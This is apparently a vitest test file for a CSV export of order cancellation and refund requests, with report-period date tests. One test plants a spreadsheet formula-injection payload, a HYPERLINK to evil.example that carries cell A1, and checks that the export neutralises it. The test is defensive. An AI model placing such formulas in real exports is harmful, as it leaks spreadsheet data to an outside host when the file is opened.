import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { ReportRow } from "../../../src/db/report-query";
import { reportPeriod } from "../../../src/domain/report-period";
import { REPORT_COLUMNS, reportCsv, reportRecord } from "../../../src/use-cases/requests-report";

const at = new Date("2026-11-20T08:00:00Z");
const row = (overrides: Partial<ReportRow> = {}): ReportRow =>
  ({
    id: 12, platform: "qoo10", orderId: "Q,1\"x", kind: "cancel", initiator: "store", reason: "out_of_stock", amount: null, currency: "JPY",
    notifyCustomer: false, flagCustomer: false, returnReceived: false, note: "line1\nline2", requestedAt: at, requestedBy: "U0AGENT", origin: "slack",
    originChannel: null, idempotencyKey: null, customerMessage: null, customerFiledCancel: false, batchId: null, state: "completed",
    decision: { outcome: "allow", route: "approval_policy", ruleIds: ["Q3", "Q5"], refundAmount: 5800, feeBearer: "none", restore: { points: 0, coupons: [] }, buyerNoticeRequired: true, explanation: "ok" },
    engineVersion: "1.0.0", orderSnapshot: null, threadChannel: null, threadTs: null, approvalsRequired: 2, approvalChannel: null, approvalTs: null,
    threadVersion: 0, approvalVersion: 0, version: 5, createdAt: at, updatedAt: at,
    approvals: [
      { id: 1, requestId: 12, approverId: "U0A", verdict: "approve", reason: null, at: new Date("2026-11-20T09:00:00Z") },
      { id: 2, requestId: 12, approverId: "U0B", verdict: "approve", reason: null, at: new Date("2026-11-20T09:30:00Z") },
    ],
    completedAt: new Date("2026-11-20T10:00:00Z"),
    ...overrides,
  }) as ReportRow;

describe("the requests report", () => {
  it("one record per request: outcome, rules, amount, approvers and times", () => {
    expect(reportRecord(row())).toEqual({
      request_id: "RD-12", created_at: "2026-11-20T08:00:00.000Z", platform: "qoo10", order_id: 'Q,1"x', kind: "cancel", initiator: "store", reason: "out_of_stock",
      requested_by: "U0AGENT", origin: "slack", state: "completed", outcome: "allow", rule_ids: "Q3 Q5", refund_amount: 5800, currency: "JPY",
      approvers: "U0A U0B", rejected_by: "", reject_reason: "", decided_at: "2026-11-20T09:30:00.000Z", completed_at: "2026-11-20T10:00:00.000Z",
    });
  });

  it("writes CSV that a spreadsheet reads back exactly, commas and quotes included", () => {
    const csv = reportCsv([row(), row({ id: 13, decision: null, amount: 300, state: "submitted", approvals: [], completedAt: null })]);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual(REPORT_COLUMNS);
    expect(records.map((r) => [r.request_id, r.order_id, r.refund_amount, r.outcome])).toEqual([
      ["RD-12", 'Q,1"x', "5800", "allow"],
      ["RD-13", 'Q,1"x', "300", ""],
    ]);
  });

  it("escapes a formula a spreadsheet would run: a reject reason that builds a link out of the sheet's cells stays text", () => {
    const attack = '=HYPERLINK("http://evil.example/?"&A1,"see")';
    const rejected = row({ state: "denied", approvals: [{ id: 3, requestId: 12, approverId: "U0C", verdict: "reject", reason: attack, at }] });
    const [record] = parse(reportCsv([rejected]), { columns: true }) as Record<string, string>[];
    expect(record!.reject_reason).toBe(`'${attack}`);
    expect(record!.refund_amount).toBe("5800");
  });

  it("names the rejecter and the reason", () => {
    const rejected = row({ state: "denied", approvals: [{ id: 3, requestId: 12, approverId: "U0C", verdict: "reject", reason: "fraud", at }] });
    expect(reportRecord(rejected)).toMatchObject({ approvers: "", rejected_by: "U0C", reject_reason: "fraud" });
  });
});

describe("a report's period", () => {
  const now = new Date("2026-11-23T15:00:00Z");
  it("defaults to the 30 days up to today, today included", () => {
    expect(reportPeriod(undefined, undefined, now)).toEqual({ ok: true, from: new Date("2026-10-25T00:00:00Z"), to: new Date("2026-11-24T00:00:00Z") });
  });
  it("includes the TO day", () => {
    expect(reportPeriod("2026-11-01", "2026-11-01", now)).toEqual({ ok: true, from: new Date("2026-11-01T00:00:00Z"), to: new Date("2026-11-02T00:00:00Z") });
  });
  it("refuses a bad date or an empty period", () => {
    expect(reportPeriod("2026-13-01", undefined, now)).toMatchObject({ ok: false, problem: expect.stringContaining("from: expected a date") });
    expect(reportPeriod("2026-11-05", "2026-11-01", now)).toEqual({ ok: false, problem: "from: must be on or before to" });
  });
});
